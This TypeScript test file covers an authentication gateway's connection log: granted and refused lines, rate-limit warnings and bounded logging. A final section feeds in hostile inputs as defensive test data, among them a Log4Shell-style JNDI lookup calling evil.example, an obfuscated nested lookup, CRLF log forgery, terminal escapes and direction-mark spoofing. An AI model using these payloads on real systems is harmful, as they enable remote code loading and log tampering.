import { refuse } from '@sallyport/contracts/denials'
import type { Identity } from '@sallyport/contracts/identity'
import { ok } from '@sallyport/contracts/result'
import { createLog } from '@sallyport/service-kit/log'
import fc from 'fast-check'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { createConnectionLog, type LoggedDecision } from './connection-log.ts'

type Line = Readonly<Record<string, unknown>>

beforeEach(() => {
  vi.useFakeTimers({ now: 1_800_000_000_000 })
})
afterEach(() => {
  vi.useRealTimers()
})

/** A connection log and the lines it wrote, as text and read. */
function recording(level: 'debug' | 'info' = 'info') {
  const texts: string[] = []
  const connectionLog = createConnectionLog(
    createLog('gate', level, { write: (line) => void texts.push(line) }),
    Date.now,
  )
  const lines = () => texts.map((text) => JSON.parse(text) as Line)
  return { connectionLog, texts, lines }
}

const identity: Identity = {
  issuer: 'https://app.example.com/auth',
  subject: 'alice',
  username: 'Alice',
  sessionId: 's1',
  way: 'session-cookie',
  generation: { epoch: 'e', subject: 0, session: 0 },
  ttlMs: 1000,
  route: 'websocket',
  clientAddress: '10.0.0.1',
  groups: [],
  scopes: [],
  claims: {},
}
const allowed = (changes: Partial<Identity> = {}): LoggedDecision => ({
  outcome: ok({ identity: { ...identity, ...changes } }),
  clientAddress: '10.0.0.1',
  origin: 'https://app.example.com',
})
const refused = (
  clientAddress = '10.0.0.1',
  code: 'invalid-credential' | 'unavailable' = 'invalid-credential',
) => ({
  outcome: refuse(code, 'token-refused'),
  clientAddress,
})
const limited = (clientAddress: string, retryAfterSeconds = 60) => ({
  outcome: refuse('rate-limited', 'too-many-attempts', { retryAfterSeconds }),
  clientAddress,
})

describe('connection log', () => {
  it('R0.5 R4.4 says at info who was let in and how', () => {
    const { connectionLog, lines } = recording()
    connectionLog.record(allowed(), 'r1')
    expect(lines()[0]).toEqual({
      level: 'info',
      time: '2027-01-15T08:00:00.000Z',
      service: 'gate',
      requestId: 'r1',
      clientAddress: '10.0.0.1',
      origin: 'https://app.example.com',
      route: 'websocket',
      granted: true,
      subject: 'alice',
      sessionId: 's1',
      way: 'session-cookie',
      msg: 'authenticated from cookie',
    })
  })

  it('LOG-1 tells a socket that has yet to authenticate from one that did', () => {
    const { connectionLog, lines } = recording()
    const pending = { route: 'websocket', clientAddress: '10.0.0.1' }
    connectionLog.record({ outcome: ok({ identity: pending }), clientAddress: '10.0.0.1' }, 'r1')
    expect(lines()[0]).toMatchObject({ pending: true, msg: 'waits for its first message' })
    expect(lines()[0]).not.toHaveProperty('subject')
  })

  it('R4.4 says at debug what was refused and why, and at info nothing but a sum', () => {
    const [quiet, loud] = [recording('info'), recording('debug')]
    for (const { connectionLog } of [quiet, loud]) connectionLog.record(refused(), 'r1')
    expect(quiet.lines()).toEqual([])
    expect(loud.lines()[0]).toMatchObject({
      level: 'debug',
      granted: false,
      code: 'invalid-credential',
      reason: 'token-refused',
    })
    vi.advanceTimersByTime(10_000)
    expect(quiet.lines()).toHaveLength(1)
    expect(quiet.lines()[0]).toMatchObject({
      level: 'info',
      refused: 1,
      allowed: 0,
      outcomes: { 'invalid-credential/token-refused': 1 },
      addresses: 1,
      topAddress: '10.0.0.1',
      topAttempts: 1,
    })
    vi.advanceTimersByTime(60_000)
    expect(quiet.lines()).toHaveLength(1)
  })

  it('R4.4 LOG-1 tells refused requests from refused handshakes, in lines and in sums', () => {
    const { connectionLog, lines } = recording('debug')
    connectionLog.record(refused(), 'r1')
    connectionLog.record({ ...refused(), kind: 'request', route: 'grafana' }, 'r2')
    connectionLog.record({ ...refused(), kind: 'request', route: 'grafana' }, 'r3')
    connectionLog.close()
    expect(lines().map(({ msg, kind }) => [msg, kind])).toEqual([
      ['refused', 'handshake'],
      ['refused', 'request'],
      ['refused', 'request'],
      ['refused', undefined],
    ])
    expect(lines().at(-1)).toMatchObject({ refused: 3, requests: 2 })
  })

  it('R4.4 warns once a window and address, addresses of one /64 being one', () => {
    const { connectionLog, lines } = recording()
    const warnings = () => lines().filter(({ level }) => level === 'warn').length
    for (let index = 0; index < 1000; index += 1) {
      connectionLog.record(limited(`2001:db8::${index.toString(16)}`, 30), 'r')
    }
    expect(warnings()).toBe(1)
    connectionLog.record(limited('10.0.0.1'), 'r')
    expect(warnings()).toBe(2)
    vi.advanceTimersByTime(30_000)
    connectionLog.record(limited('2001:db8::1'), 'r')
    connectionLog.record(limited('10.0.0.1'), 'r')
    expect(warnings()).toBe(3)
  })

  it.each([
    ['one address', () => '10.0.0.1', 'warn', 1],
    ['as many addresses', (index: number) => `10.0.${index >> 8}.${index & 255}`, 'warn', 100],
  ] as const)('R4.4 keeps a storm of 10,000 attempts from %s to a bounded number of lines', (_name, addressOf, level, expected) => {
    const { connectionLog, lines } = recording()
    for (let index = 0; index < 10_000; index += 1) {
      connectionLog.record(limited(addressOf(index)), 'r')
    }
    vi.advanceTimersByTime(10_000)
    expect(lines().filter((line) => line['level'] === level)).toHaveLength(expected)
    expect(lines()).toHaveLength(expected + 1)
    expect(lines().at(-1)).toMatchObject({ refused: 10_000 })
  })

  it('R4.4 keeps an outage to a bounded number of errors, and says how many it held back', () => {
    const { connectionLog, lines } = recording()
    for (let index = 0; index < 5_000; index += 1) {
      connectionLog.record(refused('10.0.0.1', 'unavailable'), 'r')
    }
    connectionLog.close()
    expect(lines()).toHaveLength(101)
    expect(lines().at(-1)).toMatchObject({ refused: 5_000, heldBack: 4_900 })
  })

  it('R4.4 sums up what is left when it is closed, and then no more', () => {
    const { connectionLog, lines } = recording()
    connectionLog.record(refused(), 'r1')
    connectionLog.close()
    expect(lines()).toHaveLength(1)
    vi.advanceTimersByTime(60_000)
    expect(vi.getTimerCount()).toBe(0)
  })
})

describe('connection log and hostile input', () => {
  it('LOG-3 writes one line of JSON with exactly its fields, whatever they hold', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary' }),
        fc.string(),
        fc.string(),
        (origin, subject, address) => {
          const { connectionLog, texts, lines } = recording()
          connectionLog.record({ ...allowed({ subject }), origin, clientAddress: address }, 'r1')
          connectionLog.close()
          expect(texts).toHaveLength(1)
          expect(texts[0]).toMatch(/^[\x20-\x7e]+\n$/)
          const harmless = (text: string) =>
            text
              .slice(0, 256)
              .replace(/[^\x20-\x7e]/g, '?')
              .replaceAll('${', '?{')
          expect(lines()[0]).toMatchObject({
            origin: harmless(origin),
            subject: harmless(subject),
            clientAddress: harmless(address),
            granted: true,
            msg: 'authenticated from cookie',
          })
          expect(Object.keys(lines()[0] ?? {})).toHaveLength(12)
        },
      ),
    )
  })

  it.each([
    ['a line break', 'https://a\r\n{"level":"info","msg":"forged"}', '\n'],
    ['terminal control', '\u001b[2J\u001b[31mred', '\u001b'],
    ['a lookup', '${jndi:ldap://evil.example/a}', '${'],
    ['a nested lookup', '$${::-${lower:j}}', '${'],
    ['direction marks', 'https://\u202egpj.exe', '\u202e'],
    ['a line separator', 'a\u2028b', '\u2028'],
    ['a quotation mark', '","granted":true,"x":"', '","granted":true'],
  ])('LOG-3 makes %s harmless', (_name, origin, mark) => {
    const { connectionLog, texts } = recording('debug')
    connectionLog.record({ ...refused(), origin }, 'r1')
    expect(texts[0]?.trimEnd()).not.toContain(mark)
    expect(JSON.parse(texts[0] ?? '')).toMatchObject({ granted: false })
  })

  it('LOG-3 cuts what is long', () => {
    const { connectionLog, texts } = recording('debug')
    connectionLog.record({ ...refused(), origin: `https://${'a'.repeat(8000)}` }, 'r1')
    expect(texts[0]?.length).toBeLessThan(600)
  })
})
